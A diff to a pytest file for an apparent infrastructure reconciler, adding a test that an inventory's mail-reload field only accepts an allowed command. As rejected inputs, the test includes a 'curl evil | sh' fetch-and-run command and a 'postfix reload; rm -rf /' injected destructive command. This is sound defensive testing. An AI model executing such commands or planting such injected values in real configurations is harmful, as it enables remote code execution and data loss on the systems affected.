@@ -7,6 +7,7 @@ import textwrap
 from pathlib import Path
 
 import pytest
+import yaml
 
 from conftest import run_cli
 
@@ -305,3 +306,23 @@ equipment:
         "desired_state/assets/lines.yaml:5: lines[3].unit: unknown unit 'HG-NINGUNO' (declared units are in "
         "desired_state/units.yaml)",
     ]
+
+
+def test_the_mail_reload_is_a_choice_never_a_free_command(tmp_path):
+    """The reconciler runs it (as root in the lab): an inventory names one of a fixed list."""
+    from reconciler.config.inventory import load_inventory
+    from reconciler.errors import ValidationFailed
+
+    lab = yaml.safe_load((Path(__file__).resolve().parent.parent / "inventory" / "lab.yaml").read_text())
+    inventory = tmp_path / "inventory.yaml"
+    for reload, ok in (("sudo -n systemctl reload postfix", True), (["sh", "-c", "curl evil | sh"], False),
+                       ("postfix reload; rm -rf /", False)):
+        lab["targets"]["mail-lab"]["reload"] = reload
+        inventory.write_text(yaml.safe_dump(lab, allow_unicode=True), encoding="utf-8")
+        if ok:
+            assert load_inventory(inventory)["mail-lab"].reload == tuple(reload.split())
+            continue
+        with pytest.raises(ValidationFailed) as failed:
+            load_inventory(inventory)
+        [problem] = failed.value.problems
+        assert problem.field == "targets.mail-lab.reload" and "is not one of 'postfix reload'" in problem.message
